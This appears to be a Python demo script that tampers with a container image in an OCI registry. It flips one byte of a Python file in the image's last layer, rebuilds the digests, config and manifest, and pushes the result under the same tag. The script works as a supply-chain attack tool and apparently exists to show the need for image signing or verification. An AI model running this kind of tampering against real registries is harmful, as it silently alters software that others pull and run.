"""The attack of the demo: one byte of one file changed in an image's last layer, pushed under the same tag.

Everything around the byte is made consistent again (diff ID, config, manifest), as an attacker with write access to
the registry would. Standard library only.

    tamper.py 127.0.0.1:PORT NAME TAG
"""

import gzip
import hashlib
import io
import json
import sys
import tarfile
import urllib.request

MANIFEST = "application/vnd.oci.image.manifest.v1+json"


def main():
    host, name, tag = sys.argv[1:]
    api = f"http://{host}/v2/{name}"
    request = urllib.request.Request(f"{api}/manifests/{tag}", headers={"Accept": MANIFEST})
    manifest = json.load(urllib.request.urlopen(request))
    config = json.loads(blob(api, manifest["config"]["digest"]))

    layer = bytearray(gzip.decompress(blob(api, manifest["layers"][-1]["digest"])))
    path, offset = first_python_file(bytes(layer))
    layer[offset] ^= 1
    config["rootfs"]["diff_ids"][-1] = digest(layer)
    manifest["layers"][-1].update(push(api, gzip.compress(bytes(layer), mtime=0)))
    manifest["config"].update(push(api, json.dumps(config).encode()))
    put(f"{api}/manifests/{tag}", json.dumps(manifest).encode(), MANIFEST)
    print(f"/{path}")


def first_python_file(archive):
    """The path and the offset of the content of the archive's first Python file."""
    with tarfile.open(fileobj=io.BytesIO(archive)) as entries:
        for entry in entries:
            if entry.isfile() and entry.size and entry.name.endswith(".py"):
                return entry.name, entry.offset_data
    raise SystemExit("no Python file in the last layer")


def blob(api, wanted):
    return urllib.request.urlopen(f"{api}/blobs/{wanted}").read()


def digest(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


def push(api, data):
    started = urllib.request.urlopen(urllib.request.Request(f"{api}/blobs/uploads/", method="POST"))
    location = started.headers["Location"]
    put(location + ("&" if "?" in location else "?") + f"digest={digest(data)}", data, "application/octet-stream")
    return {"digest": digest(data), "size": len(data)}


def put(url, data, media_type):
    urllib.request.urlopen(urllib.request.Request(url, data=data, method="PUT", headers={"Content-Type": media_type}))


if __name__ == "__main__":
    main()
